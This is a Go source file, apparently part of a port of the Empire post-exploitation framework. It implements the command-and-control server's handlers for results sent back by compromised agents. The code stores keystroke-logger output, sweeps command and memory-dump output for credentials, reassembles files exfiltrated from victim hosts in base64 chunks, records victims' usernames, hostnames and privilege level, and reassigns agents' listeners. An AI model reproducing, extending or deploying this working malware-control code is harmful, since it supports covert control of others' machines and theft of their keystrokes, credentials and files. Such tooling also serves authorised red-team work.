package agents

import (
	"encoding/base64"
	"fmt"
	"strconv"
	"strings"
	"time"

	"github.com/goccy/go-json"

	"github.com/Pen-Git/Empire/events"
	"github.com/Pen-Git/Empire/packets"
	"github.com/Pen-Git/Empire/store"
)

// resultContext carries one parsed result packet through its handler.
type resultContext struct {
	sessionID string
	taskID    uint16
	data      []byte

	// isKeylog is set when the originating task was the keystroke logger;
	// its job output goes to a file, not the console.
	isKeylog bool
}

// responseHandler reacts to one result opcode.
type responseHandler func(m *Manager, rc *resultContext)

// responseHandlers maps each response opcode to its reaction. Opcodes whose
// only effect is "record the text" share resultText. Unknown opcodes fall
// through to a logging default in dispatchResult.
var responseHandlers = map[string]responseHandler{
	packets.RespError:              (*Manager).resultError,
	packets.TaskSysinfo:            (*Manager).resultSysinfo,
	packets.TaskExit:               (*Manager).resultExit,
	packets.TaskShell:              (*Manager).resultText,
	packets.TaskScriptImport:       (*Manager).resultText,
	packets.TaskScriptCommand:      (*Manager).resultText,
	packets.TaskImportModule:       (*Manager).resultText,
	packets.TaskViewModule:         (*Manager).resultText,
	packets.TaskRemoveModule:       (*Manager).resultText,
	packets.TaskStopJob:            (*Manager).resultText,
	packets.TaskStopDownload:       (*Manager).resultText,
	packets.TaskGetJobs:            (*Manager).resultGetJobs,
	packets.TaskGetDownloads:       (*Manager).resultGetDownloads,
	packets.TaskDownload:           (*Manager).resultDownload,
	packets.TaskDirList:            (*Manager).resultDirList,
	packets.TaskCmdWait:            (*Manager).resultCmdWait,
	packets.TaskCmdWaitSave:        (*Manager).resultSaveFile,
	packets.TaskCmdJobSave:         (*Manager).resultSaveFile,
	packets.TaskCmdJob:             (*Manager).resultCmdJob,
	packets.TaskSwitchListener:     (*Manager).resultSwitchListener,
	packets.TaskUpdateListenerName: (*Manager).resultUpdateListenerName,
	packets.TaskUpload:             (*Manager).resultNoop,
}

// bulkOpcodes carry file payloads; their data never lands in the relational
// results column.
var bulkOpcodes = map[string]struct{}{
	packets.TaskDownload:    {},
	packets.TaskCmdWaitSave: {},
	packets.TaskCmdJobSave:  {},
}

// keylogTaskPrefix identifies the keystroke-logger script in a task body.
const keylogTaskPrefix = "function Get-Keystrokes"

// dispatchResult records a result packet in its task's result slot and
// routes it to the opcode handler.
func (m *Manager) dispatchResult(sessionID string, pkt packets.ResultPacket) {
	m.mu.Lock()
	sessionID = m.resolveLocked(sessionID)

	// Publishing never blocks, so emitting under the lock is safe.
	m.emit(sessionID, events.Event{
		EventType:    events.TypeResult,
		Message:      fmt.Sprintf("[*] Agent %s got results", sessionID),
		ResponseName: pkt.Name,
		TaskID:       int(pkt.TaskID),
	})

	rc := &resultContext{sessionID: sessionID, taskID: pkt.TaskID, data: pkt.Data}

	_, bulk := bulkOpcodes[pkt.Name]
	if pkt.TaskID != 0 && !bulk && pkt.Data != nil {
		taskData, err := m.store.TaskData(sessionID, int(pkt.TaskID))
		rc.isKeylog = err == nil && strings.HasPrefix(taskData, keylogTaskPrefix)

		if rc.isKeylog {
			err = m.store.AppendResultData(sessionID, int(pkt.TaskID), string(pkt.Data))
		} else {
			err = m.store.SetResultData(sessionID, int(pkt.TaskID), string(pkt.Data))
		}
		if err != nil {
			m.logger.Error("store result", "session_id", sessionID, "task_id", pkt.TaskID, "error", err)
		}
	}
	m.mu.Unlock()

	handler, ok := responseHandlers[pkt.Name]
	if !ok {
		m.logger.Warn("unknown response", "session_id", sessionID, "response_name", pkt.Name)
		return
	}
	handler(m, rc)
}

func (m *Manager) appendResults(sessionID, data string) {
	m.mu.Lock()
	defer m.mu.Unlock()
	m.appendResultsLocked(sessionID, data)
}

func (m *Manager) resultError(rc *resultContext) {
	m.emit(rc.sessionID, events.Event{
		Message: fmt.Sprintf("\n[!] Received error response from %s", rc.sessionID),
		Print:   true,
	})
	m.appendResults(rc.sessionID, string(rc.data))
	m.SaveAgentLog(rc.sessionID, "[!] Error response: "+string(rc.data))
}

func (m *Manager) resultText(rc *resultContext) {
	m.appendResults(rc.sessionID, string(rc.data))
	m.SaveAgentLog(rc.sessionID, string(rc.data))
}

func (m *Manager) resultNoop(*resultContext) {}

func (m *Manager) resultGetJobs(rc *resultContext) {
	if strings.TrimSpace(string(rc.data)) == "" {
		rc.data = []byte("[*] No active jobs")
	}
	m.resultText(rc)
}

func (m *Manager) resultGetDownloads(rc *resultContext) {
	if strings.TrimSpace(string(rc.data)) == "" {
		rc.data = []byte("[*] No active downloads")
	}
	m.resultText(rc)
}

// resultSysinfo re-runs the sysinfo ingest outside staging: same field
// layout, no nonce check, listener taken from the report itself.
func (m *Manager) resultSysinfo(rc *resultContext) {
	parts := strings.Split(string(rc.data), "|")
	if len(parts) < sysinfoFieldCount {
		m.emit(rc.sessionID, events.Event{
			Message: fmt.Sprintf("[!] Invalid sysinfo response from %s", rc.sessionID),
			Print:   true,
		})
		return
	}

	info := store.Sysinfo{
		Listener:        parts[1],
		InternalIP:      parts[5],
		Username:        parts[2] + "\\" + parts[3],
		Hostname:        parts[4],
		OSDetails:       parts[6],
		HighIntegrity:   parts[7] == "True",
		ProcessName:     parts[8],
		ProcessID:       parts[9],
		Language:        parts[10],
		LanguageVersion: parts[11],
	}
	if err := m.UpdateSysinfo(rc.sessionID, info); err != nil {
		m.logger.Error("update sysinfo", "session_id", rc.sessionID, "error", err)
		return
	}

	summary := sysinfoSummary(info)
	m.appendResults(rc.sessionID, summary)
	m.SaveAgentLog(rc.sessionID, summary)
}

func (m *Manager) resultExit(rc *resultContext) {
	m.emit(rc.sessionID, events.Event{
		Message: fmt.Sprintf("[!] Agent %s exiting", rc.sessionID),
		Print:   true,
	})
	m.SaveAgentLog(rc.sessionID, string(rc.data))
	if err := m.RemoveAgent(rc.sessionID); err != nil {
		m.logger.Error("remove exiting agent", "session_id", rc.sessionID, "error", err)
	}
}

// resultDownload ingests one chunk of a multi-part file download:
// index|path|total_size|base64(chunk).
func (m *Manager) resultDownload(rc *resultContext) {
	parts := strings.SplitN(string(rc.data), "|", 4)
	if len(parts) != 4 {
		m.emit(rc.sessionID, events.Event{
			Message: fmt.Sprintf("[!] Received invalid file download response from %s", rc.sessionID),
			Print:   true,
		})
		return
	}
	index, path, sizeText, chunkB64 := parts[0], parts[1], parts[2], parts[3]

	chunk, err := base64.StdEncoding.DecodeString(chunkB64)
	if err != nil {
		m.emit(rc.sessionID, events.Event{
			Message: fmt.Sprintf("[!] Received invalid file download response from %s", rc.sessionID),
			Print:   true,
		})
		return
	}
	totalSize, err := strconv.ParseInt(sizeText, 10, 64)
	if err != nil || totalSize <= 0 {
		totalSize = int64(len(chunk))
	}

	if err := m.SaveDownload(rc.sessionID, path, chunk, totalSize, index != "0"); err != nil {
		m.logger.Warn("save download", "session_id", rc.sessionID, "path", path, "error", err)
	}
	m.SaveAgentLog(rc.sessionID, fmt.Sprintf("file download: %s, part: %s", path, index))
}

// dirListing is the JSON shape of a directory-listing result.
type dirListing struct {
	DirectoryName string `json:"directory_name"`
	DirectoryPath string `json:"directory_path"`
	Items         []struct {
		Name   string `json:"name"`
		Path   string `json:"path"`
		IsFile bool   `json:"is_file"`
	} `json:"items"`
}

func (m *Manager) resultDirList(rc *resultContext) {
	var listing dirListing
	if err := json.Unmarshal(rc.data, &listing); err == nil {
		items := make([]store.DirItem, 0, len(listing.Items))
		for _, it := range listing.Items {
			items = append(items, store.DirItem{Name: it.Name, Path: it.Path, IsFile: it.IsFile})
		}

		m.mu.Lock()
		err = m.store.ReplaceDirectory(rc.sessionID, listing.DirectoryName, listing.DirectoryPath, items)
		m.mu.Unlock()
		if err != nil {
			m.logger.Error("replace directory", "session_id", rc.sessionID, "path", listing.DirectoryPath, "error", err)
		}
	}

	m.resultText(rc)
}

func (m *Manager) resultCmdWait(rc *resultContext) {
	m.appendResults(rc.sessionID, string(rc.data))
	m.harvestCredentials(rc.sessionID, rc.data)
	m.SaveAgentLog(rc.sessionID, string(rc.data))
}

// resultSaveFile handles the save variants: the first 15 bytes name the save
// prefix, the next 5 the extension, the remainder is base64 file content.
func (m *Manager) resultSaveFile(rc *resultContext) {
	if len(rc.data) < 20 {
		m.emit(rc.sessionID, events.Event{
			Message: fmt.Sprintf("[!] Received invalid save response from %s", rc.sessionID),
			Print:   true,
		})
		return
	}

	prefix := strings.TrimSpace(string(rc.data[0:15]))
	extension := strings.TrimSpace(string(rc.data[15:20]))
	content, err := base64.StdEncoding.DecodeString(string(rc.data[20:]))
	if err != nil {
		m.emit(rc.sessionID, events.Event{
			Message: fmt.Sprintf("[!] Received invalid save response from %s", rc.sessionID),
			Print:   true,
		})
		return
	}

	hostname := ""
	if a, err := m.Agent(rc.sessionID); err == nil {
		hostname = a.Hostname
	}
	stamp := time.Now().UTC().Format("2006-01-02_15-04-05")
	savePath := fmt.Sprintf("%s/%s_%s.%s", prefix, hostname, stamp, extension)

	finalPath, err := m.SaveModuleFile(rc.sessionID, savePath, content)
	if err != nil {
		m.logger.Warn("save module file", "session_id", rc.sessionID, "path", savePath, "error", err)
		return
	}

	msg := fmt.Sprintf("Output saved to .%s", finalPath)
	m.appendResults(rc.sessionID, msg)
	m.SaveAgentLog(rc.sessionID, msg)
}

func (m *Manager) resultCmdJob(rc *resultContext) {
	if rc.isKeylog {
		if err := m.AppendKeystrokes(rc.sessionID, rc.data); err != nil {
			m.logger.Warn("append keystrokes", "session_id", rc.sessionID, "error", err)
		}
	} else {
		m.appendResults(rc.sessionID, string(rc.data))
		m.SaveAgentLog(rc.sessionID, string(rc.data))
	}

	// A privileged job often ends in a memory dump; sweep it for loot.
	lines := strings.Split(string(rc.data), "\n")
	if len(lines) > 10 && strings.HasPrefix(lines[0], "Hostname:") {
		m.harvestCredentials(rc.sessionID, rc.data)
	}
}

// listenerNameOffset is where the new listener name begins in a
// switch-listener acknowledgement.
const listenerNameOffset = 38

func (m *Manager) resultSwitchListener(rc *resultContext) {
	data := string(rc.data)
	if len(data) <= listenerNameOffset {
		m.logger.Warn("short switch-listener response", "session_id", rc.sessionID)
		return
	}
	listener := data[listenerNameOffset:]

	if err := m.UpdateListener(rc.sessionID, listener); err != nil {
		m.logger.Error("update listener", "session_id", rc.sessionID, "error", err)
		return
	}
	m.appendResults(rc.sessionID, data)
	m.SaveAgentLog(rc.sessionID, data)
	m.emit(rc.sessionID, events.Event{
		Message: fmt.Sprintf("[+] Updated comms for %s to %s", rc.sessionID, listener),
	})
}

func (m *Manager) resultUpdateListenerName(rc *resultContext) {
	data := string(rc.data)
	m.appendResults(rc.sessionID, data)
	m.SaveAgentLog(rc.sessionID, data)
	m.emit(rc.sessionID, events.Event{
		Message: fmt.Sprintf("[+] Listener for '%s' updated to '%s'", rc.sessionID, data),
	})
}
